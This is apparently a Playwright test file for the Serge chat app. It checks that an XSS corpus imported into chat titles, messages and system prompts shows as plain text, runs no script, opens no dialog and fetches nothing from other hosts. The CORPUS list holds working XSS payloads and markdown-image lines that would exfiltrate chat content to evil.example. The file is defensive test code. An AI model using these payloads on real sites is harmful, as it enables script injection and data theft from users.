"""Hostile text in the page, in Debian's Chromium: nothing runs, nothing leaves the machine.

An XSS corpus goes into chat titles, questions, model replies and system prompts through the
import API (as a prompt-injected model or a shared export would put it there). The page must
show every string as text: no dialog, no script run (a window flag stays unset), no policy
violation (escaping alone holds; the Content-Security-Policy is the second wall), and no
request to any host but Serge's. /docs must work with the network cut off.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import httpx
import pytest
from conftest import BROWSER, server_of_its_own


pytestmark = [pytest.mark.real_model, *BROWSER]

playwright_sync = pytest.importorskip("playwright.sync_api")
expect = playwright_sync.expect

# Each entry sets window.__xss (or opens a dialog, or fetches evil.example) if it ever runs.
CORPUS = [
    "<script>window.__xss = 1</script>",
    '<img src=x onerror="window.__xss = 2">',
    '<svg onload="window.__xss = 3"><circle r="9"/></svg>',
    "<svg><script>window.__xss = 4</script></svg>",
    "[click me](javascript:window.__xss=5)",
    "[mixed case](JaVaScRiPt:alert(6))",
    "[entity](&#106;avascript:alert(7))",
    "<javascript:alert(8)>",
    "[ref link][r]\n\n[r]: javascript:alert(9)",
    "![an image](javascript:window.__xss=10)",
    "![the chat so far](http://evil.example/leak.png?chat=secret)",
    "![protocol-relative](//evil.example/pixel.gif)",
    '<a href="javascript:window.__xss=11">raw link</a>',
    '<iframe src="javascript:window.__xss=12"></iframe>',
    '"><script>window.__xss=13</script>',
    "' onmouseover='window.__xss=14' x='",
    "&lt;script&gt;window.__xss = 15&lt;/script&gt; &#60;img src=x onerror=alert(16)&#62;",
    "<style>body { background: url(http://evil.example/css) }</style>",
    '<math><mi xlink:href="javascript:alert(17)">m</mi></math>',
    '<details open ontoggle="window.__xss=18">d</details>',
    "{{ 7*7 }} {% raw %}${7*7}",
]

WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
    (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


server = server_of_its_own()


class Watched:
    """A page with everything that would betray a successful attack recorded."""

    def __init__(self, browser, server: str) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 860})
        self.page = self.context.new_page()
        self.dialogs, self.errors, self.elsewhere = [], [], []
        own = urlsplit(server).netloc
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        self.page.add_init_script(WATCH)

        def only_serge(route):
            if urlsplit(route.request.url).netloc == own:
                route.continue_()
            else:  # the network is cut off: whatever asks for another host is recorded and fails
                self.elsewhere.append(route.request.url)
                route.abort()

        self.context.route("**/*", only_serge)

    def assert_nothing_happened(self) -> None:
        page = self.page
        assert page.evaluate("window.__xss") is None, "injected script ran"
        assert self.dialogs == [], f"a dialog opened: {self.dialogs}"
        assert self.elsewhere == [], f"the page asked another host for: {self.elsewhere}"
        violations = page.evaluate("window.__violations")
        assert violations == [], f"something got past escaping and rendering; the policy stopped it: {violations}"
        assert self.errors == [], f"the page threw: {self.errors}"


@pytest.fixture
def watched(browser, server):
    watched = Watched(browser, server)
    yield watched
    watched.context.close()


def hostile_chat(server: str, text: str) -> dict:
    exported = {"chat": {"title": text, "system_prompt": text, "settings": {"max_new_tokens": 4}},
                "messages": [{"id": "q", "role": "user", "content": text},
                             {"id": "a", "parent_id": "q", "role": "assistant", "content": text}]}
    response = httpx.post(f"{server}/api/chats/import", json=exported, timeout=30)
    assert response.status_code == 201, response.text
    return response.json()


def test_the_xss_corpus_in_titles_questions_replies_and_prompts_shows_as_text(watched, server):
    chats = [hostile_chat(server, text) for text in CORPUS]
    page = watched.page
    for text, chat in zip(CORPUS, chats, strict=True):
        page.goto(f"{server}/c/{chat['id']}")
        expect(page.locator("#chat-title")).to_have_text(text)
        expect(page.locator('[data-role="user"] .msg-body')).to_have_text(text)
        page.get_by_role("button", name="Settings").click()
        expect(page.get_by_label("System prompt")).to_have_value(text)
        page.get_by_role("button", name="Close").click()
        reply = page.locator('[data-role="assistant"] .msg-body')
        assert reply.locator("script, img, svg, iframe, style, math, details, a[href^='javascript' i]").count() == 0
        reply.hover()
        page.locator("#chat-list .chat-link").first.hover()
        watched.assert_nothing_happened()
    # every title at once in the sidebar, and a search that lists them again
    expect(page.locator("#chat-list .chat-name")).to_have_count(len(CORPUS))
    shown = [" ".join(t.split()) for t in page.locator("#chat-list .chat-name").all_inner_texts()]
    assert sorted(shown) == sorted(" ".join(t.split()) for t in CORPUS)
    page.get_by_label("Search chats").fill("script")
    expect(page.locator("#chat-list .chat-name").first).to_contain_text("script")
    watched.assert_nothing_happened()


def test_an_image_in_a_reply_is_a_link_and_fetches_nothing(watched, server):
    chat = hostile_chat(server, "Look: ![the chat so far](http://evil.example/leak.png?chat=secret)")
    watched.page.goto(f"{server}/c/{chat['id']}")
    watched.page.wait_for_load_state("networkidle")
    watched.assert_nothing_happened()
    link = watched.page.locator('[data-role="assistant"] a.md-image')
    expect(link).to_have_text("image: the chat so far")
    expect(link).to_have_attribute("href", "http://evil.example/leak.png?chat=secret")


def test_a_title_renamed_in_the_page_to_markup_stays_text(watched, server):
    chat = hostile_chat(server, "plain")
    page = watched.page
    page.goto(f"{server}/c/{chat['id']}")
    page.locator(f'li[data-chat-id="{chat["id"]}"]').get_by_role("button", name="Rename plain").click()
    title = page.get_by_label("Chat title")
    title.fill(CORPUS[1])
    title.press("Enter")
    expect(page.locator("#chat-title")).to_have_text(CORPUS[1])
    expect(page.locator(f'li[data-chat-id="{chat["id"]}"] .chat-name')).to_have_text(CORPUS[1])
    watched.assert_nothing_happened()


def test_the_api_docs_work_with_the_network_cut_off(watched, server):
    page = watched.page
    page.goto(f"{server}/docs")
    expect(page.get_by_text("/v1/chat/completions").first).to_be_visible(timeout=30_000)
    page.get_by_text("/api/chats/{chat_id}/export").first.click()  # an operation opens, as it does online
    expect(page.get_by_text("ErrorResponse").first).to_be_attached()
    watched.assert_nothing_happened()
